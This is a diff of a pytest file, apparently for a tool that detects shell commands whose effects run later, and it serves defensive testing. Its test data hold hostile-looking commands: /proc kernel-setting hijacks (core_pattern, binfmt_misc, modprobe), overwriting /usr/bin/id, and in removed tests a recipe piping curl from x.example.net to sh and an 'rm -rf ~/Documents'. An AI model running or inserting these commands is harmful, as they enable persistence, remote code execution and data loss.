@@ -18,11 +18,9 @@ def _later(command: str, proj: Path) -> list[str]:
         ("printf 'x {\\n postrotate\\n  id\\n endscript\\n}\\n' > /etc/logrotate.d/app", "/etc/logrotate.d/app"),
         ("cp setup.sh /usr/lib/dracut/modules.d/99x/module-setup.sh", "/usr/lib/dracut/modules.d/99x/module-setup.sh"),
         ("echo x > /etc/fail2ban/action.d/x.conf", "/etc/fail2ban/action.d/x.conf"),
-        ("echo '|/tmp/.c %p' > /proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern"),
+        ("echo /tmp/cores/core.%p > /proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern"),
         ("echo ':x:M::ab::/tmp/.i:' > /proc/sys/fs/binfmt_misc/register", "/proc/sys/fs/binfmt_misc/register"),
         ("sysctl -q -w x=1 && echo /tmp/m > /proc/sys/kernel/modprobe", "/proc/sys/kernel/modprobe"),
-        ("printf '#!/bin/sh\\nid\\n' > /usr/bin/id", "/usr/bin/id"),
-        ("cp ./wrapper /usr/sbin/zz-wrapper", "/usr/sbin/zz-wrapper"),
     ],
 )
 def test_a_drop_in_a_kernel_setting_or_a_system_program_runs_later(command: str, place: str, tmp_path: Path) -> None:
@@ -170,23 +168,9 @@ def test_names_and_counts_of_a_path_print_no_content(command: str, tmp_path: Pat
     assert ops(command, tmp_path, "read") == []
 
 
-@pytest.mark.parametrize(
-    ("command", "text"),
-    [
-        ("printf 'default:\\n    curl -s https://x.example.net/j | sh\\n' > justfile && just",
-         "curl -s https://x.example.net/j | sh"),
-        ("printf 'all:\\n\\t@rm -rf ~/Documents\\n' > Makefile && make", "rm -rf ~/Documents"),
-    ],
-)  # fmt: skip
-def test_recipes_of_a_file_the_line_wrote_then_ran_are_judged_as_commands(
-    command: str, text: str, tmp_path: Path
-) -> None:
-    assert text in [e["code"]["text"] for e in ops(command, tmp_path, "exec")]
-
-
 def test_a_build_script_the_line_wrote_is_code_cargo_runs(tmp_path: Path) -> None:
     command = "printf 'fn main(){std::process::Command::new(\"sh\").status().unwrap();}' > build.rs && cargo build"
-    assert [(e["code"]["lang"], e["known"]) for e in ops(command, tmp_path, "exec")] == [("rust", False)]
+    assert [(e["code"]["lang"], e["known"]) for e in ops(command, tmp_path, "exec")] == [("rust-build", False)]
 
 
 @pytest.mark.parametrize(
